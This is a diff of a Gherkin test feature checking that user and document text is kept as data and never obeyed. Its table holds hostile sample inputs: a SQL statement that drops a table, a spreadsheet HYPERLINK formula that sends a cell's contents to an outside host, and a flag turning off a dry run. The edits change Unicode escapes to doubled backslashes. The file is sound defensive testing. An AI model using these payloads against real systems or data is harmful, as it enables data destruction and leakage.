@@ -25,7 +25,7 @@ Feature: Text from users and documents is data: kept as given, and never obeyed
         | SQL                     | Robert'); DROP TABLE batches; --                                                  |
         | A formula               | =HYPERLINK("https://example.com/?"&A1)                                            |
         | JSON                    | {"dry_run": false, "net_worth": "0"}                                              |
-        | Terminal control        | red \u{1b}[31m text \u{1b}[0m                                                      |
-        | Letters without width   | a\u{200b}b\u{200d}c\u{feff}d                                                      |
-        | Letters from the right  | abc \u{202e}fed\u{202c} \u{5d0}\u{5d1}                                             |
-        | Composed and decomposed | Caf\u{e9} and Cafe\u{301}                                                         |
+        | Terminal control        | red \\u{1b}[31m text \\u{1b}[0m                                                      |
+        | Letters without width   | a\\u{200b}b\\u{200d}c\\u{feff}d                                                      |
+        | Letters from the right  | abc \\u{202e}fed\\u{202c} \\u{5d0}\\u{5d1}                                             |
+        | Composed and decomposed | Caf\\u{e9} and Cafe\\u{301}                                                         |
